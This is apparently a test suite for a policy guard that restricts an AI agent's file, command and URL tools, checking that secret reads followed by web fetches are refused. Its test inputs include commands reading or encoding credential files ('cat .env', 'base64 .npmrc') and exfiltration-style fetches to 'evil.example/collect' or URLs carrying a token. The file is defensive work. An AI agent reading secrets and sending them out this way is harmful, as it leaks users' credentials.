import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { commandReads } from '@plan/shell'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import {
  createTestCompiler,
  createTestWorkspace,
  type TestWorkspace,
} from '../guard/__fixtures__/test-workspace.js'
import { createPlanGuard } from '../guard/create-plan-guard.js'
import type { PolicyInput } from '../schema/policy-schema.js'
import type { TaintedPolicyInput } from '../schema/tainted-schema.js'
import type { PlanGuard } from '../types/plan-guard.js'
import { ruleOfTwo } from './tainted-presets.js'

let counter = 0

async function turn(guard: PlanGuard, tool: string, args: Record<string, unknown>) {
  counter += 1
  const id = `call_${counter}`
  guard.submitPlan([{ id, tool, args }], 'turn')
  const result = await guard.authorize({ tool, args, callId: id })
  if (!result.allowed) return result.issue.code
  guard.complete(result.stepId, 'output')
  return 'allowed'
}

const TOOLS: PolicyInput['tools'] = {
  view_file: { args: { file: { type: 'path', access: 'read' } } },
  search_files: { args: { dir: { type: 'path', access: 'read' }, pattern: { type: 'string' } } },
  run_command: { args: { command: { type: 'command' } } },
  fetch_url: { args: { url: { type: 'string', format: 'url' } } },
}

describe('commandReads', () => {
  it.each([
    [['cat', '.env'], ['.env'], [], true],
    [['grep', '-r', 'KEY', '.'], ['KEY', '.'], ['KEY', '.'], true],
    [['rg', 'KEY'], ['KEY'], ['KEY'], true],
    [['tar', '-cf', '-', '.'], ['.'], ['.'], false],
    [['base64', '.npmrc'], ['.npmrc'], [], true],
    [['git', 'grep', 'KEY'], ['KEY'], ['.'], true],
    [['git', 'log', '-p'], [], ['.'], true],
    [['git', 'log', '-1', '--oneline'], [], [], true],
    [['ls', '-la', '.env'], [], [], true],
    [['npm', 'test'], ['test'], [], false],
  ])('should read %j: operands %j, trees %j, read-only %s', (argv, operands, trees, readOnly) => {
    expect(commandReads(argv)).toEqual({ operands, trees, readOnly })
  })
})

describe('sensitive reads by every tool', () => {
  let workspace: TestWorkspace
  const guardWith = async (tainted: TaintedPolicyInput, deny: string[] = []) =>
    createPlanGuard(undefined, {
      compiler: await createTestCompiler(workspace.root, {
        workspace: { roots: [workspace.root], deny },
        tools: TOOLS,
        commands: { allow: ['cat', 'grep', 'rg', 'tar', 'base64', 'git', 'npm', 'ls', 'echo'] },
        trust: { defaultOutput: 'untrusted', tainted },
      }),
    })

  beforeEach(async () => {
    workspace = await createTestWorkspace({ files: {} })
    for (const file of ['README.md', '.env', '.env.example', '.env.local', '.npmrc'])
      await writeFile(join(workspace.root, file), 'x')
  })
  afterEach(async () => {
    await workspace.remove()
  })

  for (const command of [
    'cat .env',
    'grep -r KEY .',
    'rg KEY',
    'base64 .npmrc',
    'git grep KEY',
    'git log -pu',
    'git -C . log -p',
    'git show --stat -p',
    'grep --recur KEY .',
  ]) {
    it(`should count ${JSON.stringify(command)} as a sensitive read (rule of two)`, async () => {
      const guard = await guardWith(ruleOfTwo())
      expect(await turn(guard, 'view_file', { file: 'README.md' })).toBe('allowed')
      expect(await turn(guard, 'run_command', { command })).toBe('allowed')
      expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/' })).toBe(
        'tainted_run',
      )
    })
  }

  it('should refuse an archive of a tree with sensitive files once the run is tainted and has acted', async () => {
    const guard = await guardWith(ruleOfTwo())
    expect(await turn(guard, 'view_file', { file: 'README.md' })).toBe('allowed')
    expect(await turn(guard, 'run_command', { command: 'tar -cf - .' })).toBe('tainted_run')
  })

  it('should count a search of a folder that may hold a sensitive file', async () => {
    const guard = await guardWith(ruleOfTwo())
    await turn(guard, 'view_file', { file: 'README.md' })
    expect(await turn(guard, 'search_files', { dir: '.', pattern: 'KEY' })).toBe('allowed')
    expect(await turn(guard, 'run_command', { command: 'echo hi' })).toBe('tainted_run')
  })

  for (const [name, calls] of [
    ['a template', [['view_file', { file: '.env.example' }]]],
    ['a command on a template', [['run_command', { command: 'cat .env.example' }]]],
    [
      'a grep of a folder no sensitive glob reaches',
      [['run_command', { command: 'grep -r TODO src' }]],
    ],
    ['names of sensitive files', [['run_command', { command: 'ls -la .env' }]]],
  ] as const) {
    it(`should not count ${name} (rule of two)`, async () => {
      const sensitive = ['.env', '.env.*', '.npmrc']
      const guard = await guardWith(ruleOfTwo({ sensitive }))
      await turn(guard, 'view_file', { file: 'README.md' })
      for (const [tool, args] of calls) expect(await turn(guard, tool, args)).toBe('allowed')
      expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/' })).toBe('allowed')
    })
  }

  const allowlist: TaintedPolicyInput = {
    hosts: ['docs.example.com'],
    commands: ['cat', 'echo'],
    urls: ['https://docs.example.com/calc'],
  }

  for (const read of [
    ['view_file', { file: '.env.local' }],
    ['run_command', { command: 'cat .env.local' }],
  ] as const) {
    it(`should hold URLs to the declared ones after ${read[0]} reads a path beside a denied one`, async () => {
      const guard = await guardWith(allowlist, ['.env'])
      await turn(guard, 'view_file', { file: 'README.md' })
      expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/calc?q=1' })).toBe(
        'allowed',
      )
      expect(await turn(guard, read[0], read[1])).toBe('allowed')
      for (const url of [
        'https://docs.example.com/calc?q=tok-live',
        'https://docs.example.com/tok-live',
        'https://docs.example.com/calc/t',
      ])
        expect(await turn(guard, 'fetch_url', { url })).toBe('untrusted_flow')
      expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/calc' })).toBe(
        'allowed',
      )
    })
  }

  /** Asks about one call as an adapter under `onRefuse: 'ask'` does: its codes, and the count. */
  async function ask(guard: PlanGuard, tool: string, args: Record<string, unknown>) {
    counter += 1
    const id = `ask_${counter}`
    guard.submitPlan([{ id, tool, args }], 'turn')
    const result = await guard.authorize({ tool, args, callId: id, asksHuman: true })
    const codes = result.allowed ? [] : result.issues.map((issue) => issue.code)
    return { codes, questions: guard.snapshot().flow?.questions ?? 0 }
  }

  it('should never put a URL after a sensitive read to a human, and still ask about one before', async () => {
    const guard = await guardWith({ ...allowlist, onRefuse: 'ask' }, ['.env'])
    await turn(guard, 'view_file', { file: 'README.md' })
    // Tainted, nothing sensitive read: the reviewer sees the whole request, so it is asked.
    expect(await ask(guard, 'fetch_url', { url: 'https://evil.example/collect' })).toEqual({
      codes: ['tainted_run'],
      questions: 1,
    })
    expect(await turn(guard, 'view_file', { file: '.env.local' })).toBe('allowed')
    // The same host now, and the docs host: the reviewer would see a URL, not the key it carries.
    for (const url of ['https://evil.example/collect', 'https://docs.example.com/tok-live'])
      expect((await ask(guard, 'fetch_url', { url })).questions).toBe(1)
    expect((await ask(guard, 'fetch_url', { url: 'https://evil.example/x' })).codes).toEqual([
      'tainted_run',
      'untrusted_flow',
    ])
    expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/calc' })).toBe('allowed')
  })

  it('should not ask about a URL the rule of two refuses after a sensitive read', async () => {
    const guard = await guardWith({ ...ruleOfTwo(), onRefuse: 'ask' })
    await turn(guard, 'view_file', { file: 'README.md' })
    expect(await turn(guard, 'view_file', { file: '.env' })).toBe('allowed')
    expect(await ask(guard, 'fetch_url', { url: 'https://docs.example.com/' })).toEqual({
      codes: ['tainted_run', 'untrusted_flow'],
      questions: 0,
    })
  })

  it('should leave URLs to the host lists while no sensitive path was read', async () => {
    await writeFile(join(workspace.root, 'build.js'), 'x')
    const guard = await guardWith(allowlist, ['.env', 'build'])
    await turn(guard, 'view_file', { file: 'README.md' })
    await turn(guard, 'view_file', { file: '.env.example' })
    await turn(guard, 'view_file', { file: 'build.js' })
    expect(await turn(guard, 'fetch_url', { url: 'https://docs.example.com/calc/add' })).toBe(
      'allowed',
    )
  })
})
